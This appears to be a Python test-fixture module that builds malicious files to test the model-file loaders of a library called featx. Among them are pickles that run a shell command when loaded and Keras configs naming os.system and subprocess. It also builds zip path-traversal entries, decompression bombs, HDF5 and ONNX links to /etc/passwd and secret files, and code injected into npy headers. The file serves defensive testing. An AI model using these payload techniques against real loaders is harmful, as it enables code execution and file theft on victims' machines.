"""Files that an attacker would send, each built for real.

An artefact is a function that writes one file (or folder) to a path. A payload, where it ran, would leave a
file PWNED in the working directory; what must not be read lies in the folder SECRET of the environment. The
heads' own artefacts stand in `tests.faults.malicious_heads`.
"""

from __future__ import annotations

import io
import json
import os
import pickle
import shutil
import struct
import warnings
import zipfile
import zlib
from collections.abc import Callable
from dataclasses import dataclass
from functools import cache
from pathlib import Path

import h5py
import numpy as np

COMMAND = "touch PWNED"


@dataclass(frozen=True)
class Artefact:
    """One file: its name, and what writes it; a harmless one may be opened, if nothing comes of it."""

    name: str
    build: Callable[[Path], None]
    is_harmless: bool = False


class Payload:
    """Runs a command when it is unpickled."""

    def __reduce__(self):
        return os.system, (COMMAND,)


def secret(name: str) -> str:
    """A file that nobody may open."""
    return str(Path(os.environ["SECRET"]) / name)


def write_secrets() -> None:
    """Files of every kind that an artefact below points to."""
    with h5py.File(secret("secret.h5"), "w") as file:
        file["x"] = np.zeros(1000, "f4")
    Path(secret("secret.txt")).write_text("a\nb\nc\n")
    Path(secret("secret.bin")).write_bytes(bytes(4096))


# ---------------------------------------------------------------------------------------- archives


def zip_bytes(members, compression=zipfile.ZIP_STORED) -> bytes:
    archive = io.BytesIO()
    with warnings.catch_warnings():
        # A name that stands twice is one of the tricks.
        warnings.simplefilter("ignore")
        with zipfile.ZipFile(archive, "w", compression, compresslevel=1) as file:
            for name, data in members:
                file.writestr(zipfile.ZipInfo(name), data, compression)
    return archive.getvalue()


def encrypted(data: bytes) -> bytes:
    """Every member marked as encrypted."""
    changed = bytearray(data)
    for signature, flag in ((b"PK\x03\x04", 6), (b"PK\x01\x02", 8)):
        start = changed.find(signature)
        while start >= 0:
            changed[start + flag] |= 1
            start = changed.find(signature, start + 4)
    return bytes(changed)


def lying(data: bytes, size: int, claimed: int) -> bytes:
    """A member that claims another size than it has."""
    return data.replace(struct.pack("<I", size), struct.pack("<I", claimed))


def overlapping(members) -> bytes:
    """A directory in which every name leads to the bytes of the first member."""
    data = bytearray(zip_bytes(members))
    with zipfile.ZipFile(io.BytesIO(bytes(data))) as file:
        infos = file.infolist()
    for info in infos[1:]:
        entry = data.rindex(info.filename.encode()) - 46
        data[entry + 42 : entry + 46] = struct.pack("<I", infos[0].header_offset)
    return bytes(data)


def archive_tricks(members: dict[str, bytes], inner: str) -> dict[str, Callable[[], bytes]]:
    """What can be wrong with an archive around members that are right."""
    pairs = list(members.items())
    size = 50 * 2**20
    bomb = {**members, inner: bytes(size)}
    return {
        "repeated member": lambda: zip_bytes([*pairs, (inner, members[inner])]),
        "path above": lambda: zip_bytes([*pairs, ("../PWNED", b"x")]),
        "absolute path": lambda: zip_bytes([*pairs, (f"{Path.cwd()}/PWNED", b"x")]),
        "drive and backslash": lambda: zip_bytes([*pairs, ("..\\..\\PWNED", b"x")]),
        "name with a null byte": lambda: zip_bytes(pairs).replace(
            inner.encode(), inner[:-1].encode() + b"\0"
        ),
        "encrypted": lambda: encrypted(zip_bytes(pairs)),
        "packed by lzma": lambda: zip_bytes(pairs, zipfile.ZIP_LZMA),
        "overlapping members": lambda: overlapping(pairs),
        "bomb": lambda: zip_bytes(bomb.items(), zipfile.ZIP_DEFLATED),
        "lying bomb": lambda: lying(zip_bytes(bomb.items(), zipfile.ZIP_DEFLATED), size, 1000),
        "claims terabytes": lambda: lying(zip_bytes(pairs), len(members[inner]), 2**32 - 2),
        "truncated": lambda: zip_bytes(pairs)[:-30],
    }


def writer(make: Callable[[], bytes]) -> Callable[[Path], None]:
    return lambda path: path.write_bytes(make()) and None


# ------------------------------------------------------------------------------------------- HDF5


def external_storage(group, name):
    group.create_dataset(name, (16, 4), "f4", external=[(secret("secret.bin"), 0, 256)])


def external_link(group, name):
    group[name] = h5py.ExternalLink(secret("secret.h5"), "/x")


def soft_link(group, name):
    group["other"] = np.zeros((16, 4), "f4")
    group[name] = h5py.SoftLink("/other")


def virtual(group, name):
    layout = h5py.VirtualLayout((1000,), "f4")
    layout[:] = h5py.VirtualSource(secret("secret.h5"), "x", (1000,))
    group.create_virtual_dataset(name, layout)


def shape_bomb(group, name):
    group.create_dataset(name, (2**20, 2**20), "f4", chunks=(1024, 1024))


def deflate_bomb(group, name):
    data = group.create_dataset(name, (2**17, 1024), "f4", chunks=(2**17, 1024), compression="gzip")
    data.id.write_direct_chunk((0, 0), zlib.compress(bytes(1000)))


def foreign_filter(group, name):
    group.create_dataset(name, (16, 4), "i4", chunks=(16, 4), scaleoffset=0)[:] = 1


def variable_length(group, name):
    group.create_dataset(name, (16,), h5py.vlen_dtype(np.dtype("f4")))


def references(group, name):
    data = group.create_dataset(name, (16,), h5py.ref_dtype)
    data[0] = group.ref


def cycle(group, name):
    group[name] = np.zeros((16, 4), "f4")
    group["loop"] = group


def deep_groups(group, name):
    for _ in range(200):
        group = group.create_group("g")
    group[name] = np.zeros((16, 4), "f4")


HDF5_TRICKS = {
    "external storage": external_storage,
    "external link": external_link,
    "soft link": soft_link,
    "virtual dataset": virtual,
    "shape bomb": shape_bomb,
    "deflate bomb": deflate_bomb,
    "foreign filter": foreign_filter,
    "variable length": variable_length,
    "references": references,
    "cycle": cycle,
    "deep groups": deep_groups,
}


def features_with(path: Path, trick, name: str = "features") -> None:
    """A feature file of featx in which one dataset was replaced."""
    from featx import FeatureSet

    FeatureSet(np.eye(16, 4, dtype=np.float32), np.arange(16) % 2, class_names=["a", "b"]).save(path)
    with h5py.File(path, "r+") as file:
        del file[name]
        trick(file, name)


def images_with(path: Path, trick) -> None:
    with h5py.File(path, "w") as file:
        file["labels"] = np.arange(16) % 2
        trick(file, "images")


# ------------------------------------------------------------------------------------------ Keras


@cache
def keras_members() -> dict[str, bytes]:
    """What Keras itself writes."""
    import tempfile

    import keras

    layers = [keras.Input((8, 8, 3)), keras.layers.Conv2D(4, 3), keras.layers.GlobalAveragePooling2D()]
    with tempfile.TemporaryDirectory() as folder:
        path = Path(folder) / "m.keras"
        keras.Sequential([*layers, keras.layers.Dense(3)]).save(path)
        with zipfile.ZipFile(path) as archive:
            return {name: archive.read(name) for name in archive.namelist()}


def keras_file(**members: bytes) -> bytes:
    """A ``.keras`` file with other members; exported ones have featx's JSON as well."""
    details = {
        "format_version": 1,
        "class_names": ["a", "b", "c"],
        "input_size": [8, 8],
        "output": "decision",
        "featx_version": "0",
        "model_sha256": None,
    }
    named = {name.replace("__", "."): data for name, data in members.items()}
    return zip_bytes({**keras_members(), "featx.json": json.dumps(details).encode(), **named}.items())


def with_config(change) -> Callable[[Path], None]:
    def build(path: Path) -> None:
        config = json.loads(keras_members()["config.json"])
        changed = change(config)
        text = changed if isinstance(changed, bytes) else json.dumps(config).encode()
        path.write_bytes(keras_file(config__json=text))

    return build


def layer(module, class_name, config=None, **others) -> Callable[[Path], None]:
    """One more layer of this class."""
    item = {"module": module, "class_name": class_name, "config": config or {}, "registered_name": None}
    return with_config(lambda whole: whole["config"]["layers"].append({**item, **others}))


def value(**config) -> Callable[[Path], None]:
    """A dense layer with an odd value in its config."""
    return layer("keras.layers", "Dense", {"units": 3, **config})


def function(name, module="builtins") -> dict:
    return {"module": module, "class_name": "function", "config": name, "registered_name": name}


def lambda_layer(path: Path) -> None:
    import keras

    with warnings.catch_warnings():
        warnings.simplefilter("ignore")
        inner = keras.layers.Lambda(lambda x: (__import__("os").system("touch PWNED"), x)[1])
        keras.Sequential([keras.Input((8, 8, 3)), inner]).save(path)


def lambda_h5(path: Path) -> None:
    """The old format, in which a model is one HDF5 file; by its path's ending another format."""
    import keras

    with warnings.catch_warnings():
        warnings.simplefilter("ignore")
        inner = keras.layers.Lambda(lambda x: (__import__("os").system("touch PWNED"), x)[1])
        target = path.with_name("whole.h5")
        keras.Sequential([keras.Input((8, 8, 3)), inner]).save(target)
    target.rename(path)


def nested_training(config) -> None:
    config["config"]["layers"][1]["compile_config"] = {"loss": function("system", "os")}
    config["config"]["layers"].append(layer_dict("os", "system"))


def layer_dict(module, class_name) -> dict:
    return {"module": module, "class_name": class_name, "config": {}, "registered_name": None}


def with_weights(trick) -> Callable[[Path], None]:
    """The first convolution's kernel in another guise."""

    def build(path: Path) -> None:
        target = path.with_suffix(".weights")
        target.write_bytes(keras_members()["model.weights.h5"])
        with h5py.File(target, "r+") as file:
            group = file["layers/conv2d/vars"]
            del group["0"]
            trick(group, "0")
        path.write_bytes(keras_file(model__weights__h5=target.read_bytes()))
        target.unlink()

    return build


def npz_weights(path: Path) -> None:
    buffer = io.BytesIO()
    np.savez(buffer, __root__=np.array([Payload()], object), allow_pickle=True)
    members = {name: data for name, data in keras_members().items() if name != "model.weights.h5"}
    path.write_bytes(zip_bytes([*members.items(), ("model.weights.npz", buffer.getvalue())]))


def many_layers(config) -> None:
    dense = config["config"]["layers"][-1]
    inner = config["config"]["layers"]
    for index in range(100_000):
        inner.append({**dense, "config": {**dense["config"], "name": f"d{index}"}})


GADGETS = {
    "os.system": layer("os", "system", "touch PWNED"),
    "subprocess.run": layer("subprocess", "run", {"args": ["touch", "PWNED"]}),
    "exec": value(activation=function("exec")),
    "eval as a layer": layer("builtins", "eval"),
    "get_file": value(activation=function("get_file", "keras.utils")),
    "get_file in keras.src": layer("keras.src.utils.file_utils", "get_file", {"origin": "http://[::1]:9/x"}),
    "load_model": layer("keras.models", "load_model", {"filepath": "x.keras", "safe_mode": False}),
    "load_model in keras.src": layer("keras.src.models.model", "load_model"),
    "enable_unsafe_deserialization": layer("keras.config", "enable_unsafe_deserialization"),
    "unsafe through another module": layer(
        "keras.src.saving.serialization_lib", "enable_unsafe_deserialization"
    ),
    "decode_predictions": value(
        units=1000, activation=function("decode_predictions", "keras.applications.imagenet_utils")
    ),
    "set_random_seed": layer("keras.utils", "set_random_seed", {"seed": 0}),
    "module like keras": layer("keras.layersevil", "Dense"),
    "TorchModuleWrapper": layer("keras.layers", "TorchModuleWrapper", {"module": "gASVPg=="}),
    "TFSMLayer": layer("keras.layers", "TFSMLayer", {"filepath": "/etc"}),
    "JaxLayer": layer("keras.layers", "JaxLayer"),
    "Lambda by hand": layer(
        "keras.layers", "Lambda", {"function": {"class_name": "__lambda__", "config": {}}}
    ),
    "lambda for an activation": value(
        activation={"class_name": "__lambda__", "config": {"value": ["4wAAAA==", None, None]}}
    ),
    "type spec": value(
        activation={"class_name": "__typespec__", "config": [], "module": "os", "spec_name": "x"}
    ),
    "registered name": layer("keras.layers", "Dense", {"units": 3}, registered_name="tests>Gadget"),
    "initializer of its own": value(kernel_initializer=layer_dict("os", "system")),
    "regularizer function": value(kernel_regularizer=function("system", "os")),
    "object for a number": layer("keras.layers", "Rescaling", {"scale": layer_dict("os", "system")}),
    "optimizer with a callback": layer("keras.callbacks", "CSVLogger", {"filename": "PWNED"}),
    "class that is no string": layer("keras.layers", ["Dense"]),
    "module that is no string": layer({"keras": 1}, "Dense"),
    "hidden below training": with_config(nested_training),
}


def vocabulary_layer(name: str) -> Callable[[Path], None]:
    def build(path: Path) -> None:
        layer("keras.layers", name, {"vocabulary": secret("secret.txt")})(path)

    return build


KERAS_CONFIGS = {
    "Lambda": lambda_layer,
    **GADGETS,
    **{name: vocabulary_layer(name) for name in ("StringLookup", "IntegerLookup", "TextVectorization")},
    "terabytes of weights": value(units=2**40),
    "gigabytes of weights": value(units=2**31 - 1),
    "array of a long type": value(
        bias_initializer={
            "module": "keras.initializers",
            "class_name": "Constant",
            "config": {"value": {"class_name": "__numpy__", "config": {"value": 0, "dtype": "S2000000000"}}},
            "registered_name": None,
        }
    ),
    "endless nesting": with_config(lambda _: b"[" * 10_000_000),
    "deep nesting": with_config(lambda _: b'{"a":' * 900 + b"1" + b"}" * 900),
    "not a number": value(units=float("nan")),
    "digits": with_config(lambda _: b'{"units": ' + b"9" * 100_000 + b"}"),
    "long string": with_config(lambda config: config.update(name="x" * 64 * 2**20)),
    "many layers": with_config(many_layers),
    "no model": with_config(lambda _: b"3"),
    "a layer for a model": with_config(
        lambda _: json.dumps(
            {"module": "keras.layers", "class_name": "Dense", "config": {"units": 1}, "registered_name": None}
        ).encode()
    ),
}

KERAS_WEIGHTS = {
    **{f"{name} in weights": with_weights(trick) for name, trick in HDF5_TRICKS.items()},
    "no weights file": writer(lambda: zip_bytes([("config.json", keras_members()["config.json"])])),
    "text for weights": writer(lambda: keras_file(model__weights__h5=b"no HDF5")),
    "pickle in npz weights": npz_weights,
    "pickle": writer(lambda: pickle.dumps(Payload())),
    "vocabulary in assets": writer(
        lambda: zip_bytes([*keras_members().items(), ("assets/a/vocabulary.txt", b"")])
    ),
    "whole model in HDF5": lambda_h5,
}


def keras_trick(name: str) -> Callable[[Path], None]:
    return lambda path: path.write_bytes(archive_tricks(keras_members(), "model.weights.h5")[name]()) and None


KERAS_ARCHIVES = {name: keras_trick(name) for name in archive_tricks({"a": b"", "": b""}, "")}
KERAS_ARCHIVES["a pipe"] = os.mkfifo
KERAS_ARCHIVES["a folder"] = os.mkdir


# ------------------------------------------------------------------------------------------ NumPy


def npy_header(descr: str, shape: str, order: str = "False") -> bytes:
    text = f"{{'descr': {descr}, 'fortran_order': {order}, 'shape': {shape}, }}".encode()
    text += b" " * (-(len(text) + 11) % 64) + b"\n"
    return b"\x93NUMPY\x01\x00" + struct.pack("<H", len(text)) + text


def npy_bytes(array: np.ndarray) -> bytes:
    buffer = io.BytesIO()
    np.save(buffer, array, allow_pickle=True)
    return buffer.getvalue()


IMAGES = np.zeros((4, 8, 8, 3), np.uint8)
PICKLED = np.array([Payload()], object)
NPY = {
    "pickle": lambda: npy_bytes(PICKLED),
    "bare pickle": lambda: pickle.dumps(Payload()),
    "claims terabytes": lambda: npy_header("'|u1'", "(4, 1000000, 1000000, 3)") + bytes(64),
    "shape overflows": lambda: npy_header("'|u1'", "(4294967296, 4294967296, 4294967296)") + bytes(64),
    "negative shape": lambda: npy_header("'|u1'", "(-4, 8, 8, 3)") + bytes(768),
    "shape of words": lambda: npy_header("'|u1'", "('a', 8)") + bytes(64),
    "code for a shape": lambda: npy_header("'|u1'", "__import__('os').system('touch PWNED')") + bytes(64),
    "parentheses": lambda: npy_header("'|u1'", "(" * 9000 + ")" * 9000) + bytes(64),
    "minus signs": lambda: npy_header("'|u1'", "-" * 9000 + "1") + bytes(64),
    "long type": lambda: npy_header("'|S9999999999999'", "(4,)") + bytes(64),
    "record type": lambda: npy_header("[('a', '|u1'), ('b', '|O')]", "(4, 8, 8, 3)") + bytes(4096),
    "nested record": lambda: npy_header("[('a', [('b', '|V100000')])]", "(4, 8, 8, 3)") + bytes(64),
    "unknown type": lambda: npy_header("'os.system'", "(4,)") + bytes(64),
    "object type": lambda: npy_header("'|O'", "(4,)") + pickle.dumps(Payload()),
    "version 9": lambda: b"\x93NUMPY\x09\x00" + bytes(64),
    "empty": lambda: b"",
}


def npz(**arrays) -> dict[str, bytes]:
    whole = {"images": IMAGES, "labels": np.array(["a", "b", "a", "b"]), **arrays}
    return {
        f"{name}.npy": data if isinstance(data, bytes) else npy_bytes(data) for name, data in whole.items()
    }


NPZ = {
    **{
        name: lambda name=name: archive_tricks(npz(), "images.npy")[name]()
        for name in KERAS_ARCHIVES
        if name not in ("a pipe", "a folder")
    },
    "pickle in images": lambda: zip_bytes(npz(images=PICKLED).items()),
    "pickle in labels": lambda: zip_bytes(npz(labels=PICKLED).items()),
    "pickle in groups": lambda: zip_bytes(npz(groups=PICKLED).items()),
    "terabytes in images": lambda: zip_bytes(npz(images=NPY["claims terabytes"]()).items()),
    "bomb of zeros": lambda: zip_bytes(
        npz(images=npy_header("'|u1'", "(600, 1024, 1024, 1)") + bytes(600 * 2**20)).items(),
        zipfile.ZIP_DEFLATED,
    ),
}
# A name that ends the archive's own member is another name; these are read as they are.
HARMLESS_NPZ = {"bomb"}


# --------------------------------------------------------------------------------------- exported


def details(n_classes: int = 2, **others) -> bytes:
    fields = {
        "format_version": 1,
        "class_names": ["cat", "dog", "cow"][:n_classes],
        "input_size": [16, 16],
        "output": "probability",
        "featx_version": "0.1.0",
        "model_sha256": None,
    }
    return json.dumps({**fields, **others}).encode()


def unchanged(_model) -> None:
    pass


def onnx_model(change=unchanged):
    """A model that averages its pixels, described as featx describes one."""
    import onnx
    from onnx import TensorProto, helper

    images = helper.make_tensor_value_info("images", TensorProto.UINT8, ["n", "h", "w", 3])
    scores = helper.make_tensor_value_info("scores", TensorProto.FLOAT, ["n", 2])
    weights = onnx.numpy_helper.from_array(np.ones((3, 2), np.float32), "w")
    nodes = [
        helper.make_node("Cast", ["images"], ["pixels"], to=TensorProto.FLOAT),
        helper.make_node("ReduceMean", ["pixels"], ["means"], axes=[1, 2], keepdims=0),
        helper.make_node("MatMul", ["means", "w"], ["scores"]),
    ]
    graph = helper.make_graph(nodes, "g", [images], [scores], [weights])
    model = helper.make_model(graph, opset_imports=[helper.make_opsetid("", 13)], ir_version=8)
    change(model)
    return model


def onnx_bytes(change=unchanged, **others) -> bytes:
    from featx.files import sha256_hex

    model = onnx_model(change)
    digest = sha256_hex(model.SerializeToString(deterministic=True))
    model.metadata_props.add(key="featx.json", value=details(model_sha256=digest, **others).decode())
    return model.SerializeToString()


def outside(location: str):
    """The weights in another file."""

    def change(model):
        tensor = model.graph.initializer[0]
        tensor.ClearField("raw_data")
        tensor.data_location = 1
        for key, text in (("location", location), ("offset", "0"), ("length", "24")):
            tensor.external_data.add(key=key, value=text)

    return change


def outside_in_a_branch(model):
    attribute = model.graph.node[0].attribute.add(name="then_branch", type=5)
    tensor = attribute.g.initializer.add(name="x", data_type=1, dims=[4], data_location=1)
    tensor.external_data.add(key="location", value=secret("secret.bin"))


def own_function(model):
    model.functions.add(name="f", domain="evil").node.add(op_type="Relu")


def python_operation(model):
    model.graph.node.add(op_type="PyOp", domain="ai.onnx.contrib")


ONNX = {
    "weights elsewhere": lambda: onnx_bytes(outside(secret("secret.bin"))),
    "weights above": lambda: onnx_bytes(outside("../secret/secret.bin")),
    "weights in /etc/passwd": lambda: onnx_bytes(outside("/etc/passwd")),
    "weights elsewhere in a branch": lambda: onnx_bytes(outside_in_a_branch),
    "operation of its own": lambda: onnx_bytes(python_operation),
    "function of its own": lambda: onnx_bytes(own_function),
    "image of terabytes": lambda: onnx_bytes(input_size=[2**20, 2**20]),
    "classes of numbers": lambda: onnx_bytes(class_names=[1, 2]),
    "deep details": lambda: onnx_model_with(b"[" * 100_000),
    "other digest": lambda: onnx_model_with(details(model_sha256="0")),
    "no protobuf": lambda: b"\x08" + bytes(100),
    "pickle": lambda: pickle.dumps(Payload()),
}


def onnx_model_with(text: bytes) -> bytes:
    model = onnx_model()
    model.metadata_props.add(key="featx.json", value=text.decode())
    return model.SerializeToString()


LITERT = {
    "no model": lambda: b"\x1c\0\0\0TFL3" + bytes(100) + zip_bytes([("featx.json", details())]),
    "pickle": lambda: pickle.dumps(Payload()),
    "path above": lambda: b"\x1c\0\0\0TFL3" + zip_bytes([("featx.json", details()), ("../PWNED", b"x")]),
    "repeated member": lambda: b"\x1c\0\0\0TFL3" + zip_bytes([("featx.json", details())] * 2),
}


def saved_model(folder: Path, compute) -> None:
    """A SavedModel of TensorFlow's own, described as if featx had exported it."""
    import tensorflow as tf

    from featx.files import sha256_hex

    module = tf.Module()
    module.variable = tf.Variable(np.zeros((1, 2), np.float32))
    spec = tf.TensorSpec((None, None, None, 3), tf.uint8, name="images")
    module.serve = tf.function(compute, input_signature=[spec])
    tf.saved_model.save(module, folder, signatures={"serving_default": module.serve})
    digest = sha256_hex((folder / "saved_model.pb").read_bytes())
    (folder / "assets.extra").mkdir()
    (folder / "assets.extra" / "featx.json").write_bytes(details(model_sha256=digest))


def read_file(_images):
    import tensorflow as tf

    return tf.cast(tf.strings.length(tf.io.read_file("/etc/passwd")), "float32") + tf.zeros((1, 2))


def write_file(_images):
    import tensorflow as tf

    tf.io.write_file("PWNED", "written")
    return tf.zeros((1, 2))


def python_call(images):
    import tensorflow as tf

    return tf.numpy_function(lambda _: np.zeros((1, 2), np.float32), [images], tf.float32)


def restore(_images):
    import tensorflow as tf

    (values,) = tf.raw_ops.RestoreV2(
        prefix="/etc/secrets", tensor_names=["a"], shape_and_slices=[""], dtypes=[tf.float32]
    )
    return tf.reshape(values, (1, 2))


def zeros(_images):
    import tensorflow as tf

    return tf.zeros((1, 2))


def _linked(folder: Path) -> None:
    saved_model(folder, zeros)
    (found,) = folder.glob("variables/*.data*")
    found.unlink()
    found.symlink_to(secret("secret.bin"))


def _linked_folder(folder: Path) -> None:
    saved_model(folder, zeros)
    shutil.rmtree(folder / "variables")
    (folder / "variables").symlink_to(os.environ["SECRET"])


SAVED_MODEL = {
    "reads a file": lambda folder: saved_model(folder, read_file),
    "writes a file": lambda folder: saved_model(folder, write_file),
    "calls Python": lambda folder: saved_model(folder, python_call),
    "restores a checkpoint": lambda folder: saved_model(folder, restore),
    "variables are a link": _linked,
    "folder of variables is a link": _linked_folder,
}
